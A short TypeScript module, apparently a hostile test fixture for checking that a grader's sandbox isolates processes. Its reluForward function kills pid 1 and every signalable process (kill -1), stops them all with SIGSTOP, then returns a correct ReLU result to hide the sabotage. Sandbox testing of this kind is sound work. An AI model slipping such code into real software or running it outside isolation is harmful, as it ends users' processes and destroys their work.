/**
 * Hostile: SIGKILL to pid 1 and to every process it may signal (kill -1), then SIGSTOP to every
 * one. Run as the grader's user outside a PID namespace this ends every process of that user on
 * the machine: the test that grades it runs only where the sandbox has its own PID namespace.
 * Returns a correct relu otherwise.
 */
import { reluForward as correct } from './relu';

export function reluForward(x: Parameters<typeof correct>[0]) {
  for (const [pid, signal] of [
    [1, 'SIGKILL'],
    [-1, 'SIGKILL'],
    [-1, 'SIGSTOP'],
  ] as const) {
    try {
      process.kill(pid, signal);
    } catch {
      // Refused: try the next.
    }
  }
  return correct(x);
}

export { reluBackward } from './relu';
